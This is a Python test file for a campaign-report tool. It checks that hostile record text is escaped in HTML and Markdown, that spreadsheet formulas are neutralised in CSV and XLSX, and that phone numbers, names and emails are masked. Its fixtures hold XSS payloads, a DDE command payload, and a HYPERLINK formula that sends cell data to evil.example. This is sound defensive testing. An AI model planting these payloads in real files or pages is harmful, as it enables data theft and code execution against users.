"""Hostile record text in every format: escaped, neutralised, masked."""

from __future__ import annotations

import csv
import doctest
import io
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

import campaignkit as ck
from campaignkit.report import safety
from campaignkit.report.build import Report, build_report, render
from campaignkit.report.safety import (
    FORMULA_PREFIXES,
    escape_markdown,
    mask_email,
    mask_name,
    mask_phone,
    mask_text,
    neutralise_cell,
    restore_cell,
)
from tests.conftest import minimal_document

SCRIPT = "<script>alert('x')</script>"
HOTLINE = "13800001111"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
MINUS = "-2+3"
COMMENT_BREAK = "--><script>alert(2)</script><!--"
PHONE = "13812345678"
DESCRIPTION_PHONE = "13912345678"


def hostile_document() -> dict[str, Any]:
    doc = minimal_document()
    doc["campaign"]["name"] = f"{SCRIPT}专项行动 热线{HOTLINE}"
    teams = doc["work_groups"][0]["teams"]
    teams[0]["name"], teams[1]["name"], teams[2]["name"] = HYPERLINK, PLUS, AT
    doc["regions"][2]["name"] = MINUS + " <b>区</b>"
    doc["regions"][3]["name"] = COMMENT_BREAK
    ent = doc["enterprises"][0]
    ent["name"] = "<img src=x onerror=alert(1)>甲公司"
    ent["contact"] = {"person": "张三丰", "phone": PHONE, "email": "zs@example.cn"}
    doc["issues"][0]["description"] = f"\t=1+1 联系人手机{DESCRIPTION_PHONE}"
    doc["issues"][1]["description"] = "'=already quoted"
    doc["issues"][0]["events"][0]["department"] = "区人社局 0554-6661234"
    doc["activities"][0]["title"] = "[click](javascript:alert(1)) | *bold*"
    return doc


@pytest.fixture(scope="module")
def report() -> Report:
    ledger = ck.loads(orjson.dumps(hostile_document()))
    return build_report(ledger)


# -- the helpers -----------------------------------------------------------------------


def test_the_helpers_examples() -> None:
    assert doctest.testmod(safety).failed == 0


@pytest.mark.parametrize(
    ("phone", "masked"),
    [
        ("13812345678", "138****5678"),
        ("+86 138 1234 5678", "138****5678"),
        ("0554-6661234", "0554-***1234"),
        ("12345", "*****"),
    ],
)
def test_mask_phone(phone: str, masked: str) -> None:
    assert mask_phone(phone) == masked


def test_mask_name_and_email() -> None:
    assert mask_name("张三") == "张*"
    assert mask_name("张三丰") == "张**"
    assert mask_name("John Smith") == "J*** *****"
    assert mask_email("zs@example.cn") == "z***@example.cn"


def test_mask_text_finds_phones_and_addresses_in_free_text() -> None:
    text = f"请联系王经理{PHONE},或0554-6661234,邮箱wang@corp.cn;订单号20200413123456"
    masked = mask_text(text)
    assert PHONE not in masked and "138****5678" in masked
    assert "0554-***1234" in masked and "w***@corp.cn" in masked
    assert "20200413123456" in masked  # a long number is not a phone


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("电话(0554)6661234", "电话(0554)***1234"),
        ("电话（0554）666-1234", "电话(0554)***1234"),
        ("电话05546661234", "电话0554***1234"),
        ("电话01012345678转", "电话010****5678转"),
        ("请回电８６１３９１２３４５６７８。", "请回电139****5678。"),
        ("手机１３９１２３４５６７８，谢谢", "手机139****5678，谢谢"),
        ("电话（０５５４）６６６１２３４，共１２家", "电话(0554)***1234，共１２家"),
        ("８６－１３９－１２３４－５６７８", "139****5678"),
    ],
)
def test_mask_text_finds_the_usual_chinese_ways_of_writing_a_number(text: str, masked: str) -> None:
    assert mask_text(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        "拟投资600000000元，到位1500000000.00元",
        "2020-04-13、20200413、2020年04月13日、2020/4/13",
        "问题 Q0001、Q-0001，活动 A-0012，企业 E0001",
        "统一社会信用代码91340400MA2N0XXX1X、91340400MA00000017",
        "地区340402，办结率59.45%（0.5945），增长0.05546661234",
        "编号00123，第0554号，文号皖工商联〔2020〕12号",
        "订单号A05546661234，合同2020041312345678",
        "共１２家，金额６０００００００元",
    ],
)
def test_mask_text_leaves_ordinary_figures_as_they_are(text: str) -> None:
    assert mask_text(text) == text


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_restores(text: str) -> None:
    cell = neutralise_cell(text)
    assert not cell.startswith(FORMULA_PREFIXES)
    assert restore_cell(cell) == text


def test_escape_markdown() -> None:
    out = escape_markdown("<b>x</b> | [a](b) *c* _d_ `e`\nf")
    assert "<" not in out and "\n" not in out
    assert r"\|" in out and r"\[a\]" in out and r"\*c\*" in out and r"\`e\`" in out


# -- every format ----------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend(name for name, _ in attrs)


def test_html_escapes_every_record_text(report: Report) -> None:
    html = render(report, "html").decode()
    parser = _Tags()
    parser.feed(html)
    assert "script" not in parser.tags and "img" not in parser.tags and "b" not in parser.tags
    assert not any(name.startswith("on") for name in parser.attrs)
    assert "<script" not in html and "&lt;script&gt;" in html
    assert HYPERLINK.replace('"', "&quot;").replace("&A1", "&amp;A1") in html
    # the chart of regions holds the comment-breaking name: its text escaped in the SVG, no comment left
    assert "<!--" not in html and "-->" not in html


def test_markdown_cannot_add_html_links_or_columns(report: Report) -> None:
    md = render(report, "markdown").decode()
    assert "<script" not in md and "<b>" not in md and "&lt;script&gt;" in md
    table = next(line for line in md.splitlines() if line.startswith("| 指标 |"))
    # the hostile team names did not add columns
    assert table.count(" | ") == len(report.table.rows) + 1
    assert r"+cmd\|" in md


def test_csv_cells_never_start_a_formula(report: Report) -> None:
    data = render(report, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data)))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in cells)
    labels = [row[0] for row in rows[1:]]
    assert [restore_cell(label) for label in labels[:3]] == [HYPERLINK, PLUS, AT]
    assert labels[0] == "'" + HYPERLINK


def test_csv_by_region_neutralises_region_names(report: Report) -> None:
    from campaignkit.plugins.formatters import FORMATTERS
    from campaignkit.rules.records import RenderOptions

    csv_formatter = next(f for f in FORMATTERS if f.name == "csv")
    data = csv_formatter.render(report, RenderOptions(by="region")).decode("utf-8-sig")
    labels = [row[0] for row in csv.reader(io.StringIO(data))]
    assert "'" + MINUS + " <b>区</b>" in labels


@pytest.mark.parametrize("args", [["--by", "team"], ["--by", "region"], []])
def test_the_summary_command_writes_csv_as_the_report_does(
    args: list[str], tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    from campaignkit.cli.app import main
    from campaignkit.report import data

    path = tmp_path / "ledger.json"
    path.write_bytes(orjson.dumps(hostile_document()))
    assert main(["summary", str(path), *args, "--format", "csv"]) == 0
    out = capsysbinary.readouterr().out
    # for Excel, as the report's CSV: a byte-order mark and CRLF line ends
    assert out.startswith(data.BOM.encode()) and out.count(b"\r\n") == out.count(b"\n")
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(FORMULA_PREFIXES) for cell in cells)
    if args:  # the hostile names, neutralised and restorable
        names = {restore_cell(row[0]) for row in rows[1:]}
        assert ({HYPERLINK, PLUS, AT} if args[1] == "team" else {MINUS + " <b>区</b>"}) <= names
    assert doctest.testmod(data).failed == 0


@pytest.mark.parametrize("fmt", ["text", "markdown", "json", "html"])
def test_phone_numbers_are_masked_unless_asked_for(report: Report, fmt: str) -> None:
    masked = render(report, fmt).decode()
    stars = r"\*\*\*\*" if fmt == "markdown" else "****"  # Markdown escapes the stars
    assert HOTLINE not in masked and f"138{stars}1111" in masked
    shown = render(report, fmt, show_personal=True).decode()
    assert HOTLINE in shown


def test_json_keeps_text_as_data(report: Report) -> None:
    doc = orjson.loads(render(report, "json"))
    labels = [row["label"] for row in doc["table"]["rows"]]
    assert labels[:3] == [HYPERLINK, PLUS, AT]  # JSON is data: no formula prefix, exact text
    assert doc["title"].startswith(SCRIPT)


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]  # type: ignore[misc]


def test_xlsx_has_no_formula_and_masks_personal_data(report: Report, tmp_path: Path) -> None:
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(render(report, "xlsx"))
    cells = _cells(path)
    assert not any(c.data_type == "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not any(t.startswith(FORMULA_PREFIXES) for t in texts)
    assert "'" + HYPERLINK in texts and "'" + PLUS in texts and "'" + AT in texts
    joined = "\n".join(texts)
    for secret in (PHONE, DESCRIPTION_PHONE, HOTLINE, "张三丰", "zs@example.cn", "6661234"):
        assert secret not in joined
    assert "张**" in texts and "138****5678" in texts and "z***@example.cn" in texts
    assert "'\t=1+1 联系人手机139****5678" in texts
    assert "''=already quoted" in texts


def test_xlsx_shows_personal_data_only_when_asked(report: Report, tmp_path: Path) -> None:
    path = tmp_path / "personal.xlsx"
    path.write_bytes(render(report, "xlsx", show_personal=True))
    cells = _cells(path)
    assert not any(c.data_type == "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "张三丰" in texts and PHONE in texts and "zs@example.cn" in texts
    assert f"'\t=1+1 联系人手机{DESCRIPTION_PHONE}" in texts


def test_record_text_is_masked_before_hidden_characters_are_revealed() -> None:
    from campaignkit.report.tables import Redactor

    shown = Redactor(show_personal=False)("电话\u202813812345678")
    assert shown == "电话\\u2028138****5678"
    assert Redactor(show_personal=True)("第一\u202e小组") == "第一\\u202e小组"
